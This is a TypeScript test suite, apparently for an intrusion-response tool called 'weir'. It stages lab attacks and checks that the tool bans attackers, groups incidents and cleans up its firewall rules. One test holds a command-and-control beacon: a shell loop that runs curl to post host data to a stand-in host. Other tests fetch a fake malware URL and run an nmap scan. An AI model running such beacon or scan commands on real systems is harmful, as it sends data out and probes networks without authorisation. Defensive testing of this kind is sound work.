import assert from 'node:assert/strict';
import { after, before, suite, type TestContext, test } from 'node:test';
import { setTimeout as wait } from 'node:timers/promises';
import { ADDRESS } from '../../lab/topology.ts';
import { APPLICATION } from '../../lab/web-application.ts';
import { ControlError } from '../../src/control/index.ts';
import type { Running } from '../support/running.ts';
import { FRONT, NAME_SERVER, Scene, withoutResponse } from './response-scene.ts';
import { PROXY_PORT, type SceneWeir } from './response-weir.ts';

/** One address for each attack: none of them shares an incident with another. */
const ATTACKER = {
  scan: '198.51.100.71',
  ssh: '198.51.100.72',
  haproxy: '198.51.100.73',
  proxy: '198.51.100.74',
  chain: '198.51.100.75',
} as const;
const HTTPS = `https://${APPLICATION.name}`;
const MALWARE = 'http://files.updates-cdn.test/player-update.exe';

suite('the response to attacks in the lab', { skip: withoutResponse(), timeout: 88_000 }, () => {
  let scene: Scene;
  let weir: SceneWeir;
  let administrator: Running;
  let browsing: Promise<string>;
  before(async () => {
    scene = await Scene.build(Object.values(ATTACKER), 80_000);
    administrator = await scene.administrator();
    weir = await scene.weir('enforce', { mode: 'enforce', waf: 'on' });
    browsing = scene.lab.lab('browse');
    // It is looked at later.
    browsing.catch(() => undefined);
  });
  after(() => scene?.lab.remove());

  /** An attack while the attacker has a connection open: a ban, an incident, and nothing passes any more. */
  async function cutOff(
    context: TestContext,
    from: string,
    { port, host, attack }: { readonly host: string; readonly port: number; readonly attack: () => Running },
    expected: { readonly scenario: RegExp; readonly stage: string; readonly victim: string },
  ): Promise<void> {
    scene.attackFrom(from);
    const url = `http://${host}:${port}/robots.txt`;
    const talk = await scene.talk(host, port, from);
    const began = Date.now();
    const program = attack();
    const ban = await weir.banOf(from);
    const last = await talk.last();
    await program.end('SIGKILL');
    assert.match(ban.scenario, expected.scenario);
    assert.deepEqual(ban.enforcers, ['nftables', 'proxy']);
    // Neither the open connection nor a new one.
    assert.equal(await scene.status('attacker', url), '000');
    await talk.end();
    context.diagnostic(
      `last answer ${last - began} ms after the attack began; applied in ${ban.latency_ms} ms`,
    );

    const incidents = await weir.ask.incidents(from, 10);
    assert.equal(incidents.length, 1, JSON.stringify(incidents));
    const [{ steps = [], victims = [], attackers = [], title = '' } = {}] = incidents;
    assert.deepEqual(attackers, [from]);
    assert.deepEqual(victims, [expected.victim]);
    assert.ok(title.includes(from), title);
    assert.deepEqual(
      steps.map(({ stage }) => stage),
      [expected.stage],
    );
    assert.ok(steps.every(({ reason, techniques }) => reason !== '' && techniques.length > 0));
    const { score, explanation } = await weir.ask.reputation(from);
    assert.ok(score > 0);
    const parts = explanation?.contributions ?? [];
    assert.ok(parts.every(({ reason, evidence }) => reason !== '' && evidence.length > 0));
    const sum = parts.reduce((all, { left }) => all + left, 0);
    assert.ok(Math.abs(Math.min(100, sum) - score) < 0.5, `${sum} explained of ${score}`);
  }

  test('a port scan', (context) =>
    cutOff(
      context,
      ATTACKER.scan,
      { host: ADDRESS.dmz, port: APPLICATION.port, attack: () => scene.attack('scan') },
      { scenario: /^weir\/port-scan/, stage: 'reconnaissance', victim: ADDRESS.dmz },
    ));

  test('guesses at passwords of SSH', (context) =>
    cutOff(
      context,
      ATTACKER.ssh,
      { host: ADDRESS.dmz, port: APPLICATION.port, attack: () => scene.attack('ssh-bruteforce') },
      { scenario: /^weir\/ssh-bruteforce/, stage: 'credential_access', victim: ADDRESS.dmz },
    ));

  test('SQL injection through HAProxy', (context) => {
    const trusting = [
      '--cacert',
      scene.labFile('ca/ca.pem'),
      '--resolve',
      `${APPLICATION.name}:443:${FRONT}`,
    ];
    const attack = (): Running => scene.inject(`${HTTPS}/search`, ...trusting);
    return cutOff(
      context,
      ATTACKER.haproxy,
      { host: FRONT, port: 80, attack },
      { scenario: /^weir\/waf-/, stage: 'initial_access', victim: FRONT },
    );
  });

  test('SQL injection through the built-in proxy', (context) =>
    cutOff(
      context,
      ATTACKER.proxy,
      {
        host: FRONT,
        port: PROXY_PORT,
        attack: () => scene.inject(`http://${FRONT}:${PROXY_PORT}/search`),
      },
      { scenario: /^weir\/waf-/, stage: 'initial_access', victim: FRONT },
    ));

  test('a program that looks like malware: the victim stays, its source can be cut off', async () => {
    assert.equal(await scene.status('bob', MALWARE), '200');
    const [incident] = await weir.until('incident', async () => {
      const found = await weir.ask.incidents(ADDRESS.bob, 10);
      return found.length > 0 && found;
    });
    assert.equal((await weir.ask.incidents(ADDRESS.bob, 10)).length, 1);
    assert.deepEqual(incident?.victims, [ADDRESS.bob]);
    assert.deepEqual(
      incident?.steps.map(({ stage }) => stage),
      ['tool_transfer'],
    );
    assert.match(incident?.steps[0]?.reason ?? '', /program/);
    const [source = ''] = incident?.infrastructure ?? [];
    assert.equal(source, ADDRESS.files);
    const outcome = await weir.ask.ban(wish(source), false);
    assert.ok('decided' in outcome, JSON.stringify(outcome));
    assert.equal(await scene.status('bob', MALWARE), '000');
    assert.equal(await scene.status('bob', 'http://www.example.com/news.html'), '200');
    const { lifted } = await weir.ask.unban(source, 'test');
    assert.equal(lifted.length, 1);
    assert.equal(await scene.status('bob', MALWARE), '200');
  });

  test('nobody can ban the administrator, the gateway, the name server or weir itself', async () => {
    for (const [address, guard] of [
      [ADDRESS.alice, 'administrator'],
      [ADDRESS.www, 'gateway'],
      [NAME_SERVER, 'dns_server'],
      [ADDRESS.gateway, 'own_address'],
    ] as const) {
      const outcome = await weir.ask.ban(wish(address), false);
      assert.ok('refused' in outcome, `${address} is banned`);
      const record = await weir.until(`record of ${address}`, () =>
        weir.decisions().find(({ event, value }) => event === 'refused' && value === address),
      );
      assert.equal(record.guard, guard);
      assert.equal(record.error, outcome.refused);
    }
    // The administrator scans: that is seen, and nobody throws her out.
    const scan = scene.lab.on('alice', 'nmap', '-n', '-Pn', '-sS', '--top-ports', '60', ADDRESS.www);
    await scan.ended;
    await weir.until('refusal', () =>
      weir
        .decisions()
        .find(
          ({ event, value, scenario }) =>
            event === 'refused' && value === ADDRESS.alice && scenario.startsWith('weir/port-scan'),
        ),
    );
  });

  test('bans outlive the responder, and the next one takes them over', async () => {
    const pid = async (): Promise<number | undefined> =>
      (await weir.ask.status()).processes.find(({ name }) => name === 'responder')?.pid;
    const first = (await pid()) ?? assert.fail('no responder');
    const { total } = await weir.ask.decisions('', 100);
    process.kill(first, 'SIGKILL');
    const url = `http://${ADDRESS.dmz}:${APPLICATION.port}/robots.txt`;
    for (const address of Object.values(ATTACKER).slice(0, 4)) {
      assert.ok(scene.rules().includes(address), `${address} is in no set`);
    }
    scene.attackFrom(ATTACKER.scan);
    assert.equal(await scene.status('attacker', url), '000');
    const next = await weir.until('another responder', async () => {
      try {
        const now = await pid();
        if (now === undefined || now === first) return false;
        return (await weir.ask.decisions('', 100)).total === total && now;
      } catch (error) {
        if (error instanceof ControlError) return false;
        throw error;
      }
    });
    assert.notEqual(next, first);
    assert.ok(scene.rules().includes(ATTACKER.scan));
    const { lifted } = await weir.ask.unban(ATTACKER.scan, 'test');
    assert.ok(lifted.length > 0);
    assert.equal(await scene.status('attacker', url), '200');
    scene.attackFrom(ATTACKER.ssh);
    assert.equal(await scene.status('attacker', url), '000');
  });

  test('administrator and visitors were not disturbed', async () => {
    assert.match(await browsing, / 0 blocked, \d+ passed, 0 failed/);
    const ticks = administrator.stdout.length;
    await wait(300);
    assert.ok(administrator.stdout.length > ticks, 'the session stands still');
    assert.equal(administrator.child.exitCode, null);
    assert.equal(
      await scene.status('alice', `${HTTPS}/`, '--cacert', scene.labFile('ca/ca.pem'), '-4'),
      '200',
    );
  });

  test('nothing stays in the kernel when weir has ended', async () => {
    assert.match(scene.rules(), /table inet weir_decisions/);
    const { code } = await weir.end();
    assert.equal(code, 0, weir.said);
    assert.equal(scene.rules(), '');
    assert.doesNotMatch(scene.links(), /xdp/);
    assert.equal(
      await scene.status('attacker', `http://${ADDRESS.dmz}:${APPLICATION.port}/robots.txt`),
      '200',
    );
  });

  test('scan, exploit, download and beacon are one incident; who observes bans nobody', async () => {
    const from = ATTACKER.chain;
    weir = await scene.weir('observe', { mode: 'observe', waf: 'detection' });
    scene.attackFrom(from);
    await scene.attack('scan').ended;
    const { stdout } = await scene.inject(`http://${FRONT}:${PROXY_PORT}/search`).ended;
    assert.deepEqual(new Set(stdout.trim().split('\n')), new Set(['200']));
    await weir.banOf(from);
    assert.equal(await scene.status('dmz', MALWARE), '200');
    const call = 'curl -q -s -k --http1.1 -o /dev/null --data host=dmz https://telemetry.updates-cdn.test/';
    const beacon = scene.lab.on(
      'dmz',
      'sh',
      '-c',
      `for i in 1 2 3 4 5 6 7 8 9 10; do ${call}; sleep 1; done`,
    );
    const incident = await weir.until('beacon', async () =>
      (await weir.ask.incidents(ADDRESS.dmz, 10)).find(({ steps }) =>
        steps.some(({ stage }) => stage === 'command_and_control'),
      ),
    );
    await beacon.end('SIGKILL');
    assert.deepEqual(
      incident.steps.map(({ stage }) => stage),
      ['reconnaissance', 'initial_access', 'tool_transfer', 'command_and_control'],
    );
    assert.deepEqual(incident.attackers, [from]);
    assert.ok(incident.victims.includes(ADDRESS.dmz));
    assert.ok(incident.steps.slice(2).every(({ link }) => link.includes(from)));
    for (const address of [from, ADDRESS.dmz]) {
      assert.equal((await weir.ask.incidents(address, 10)).length, 1, address);
    }
    assert.ok(weir.decisions().every(({ simulated }) => simulated));
    assert.equal(scene.rules(), '');
    assert.equal((await weir.end()).code, 0, weir.said);
  });
});

/** What a user asks for. */
function wish(value: string) {
  return {
    type: 'ban',
    scope: 'address',
    value,
    reason: 'test',
    durationMs: 600_000,
    author: 'test',
  } as const;
}
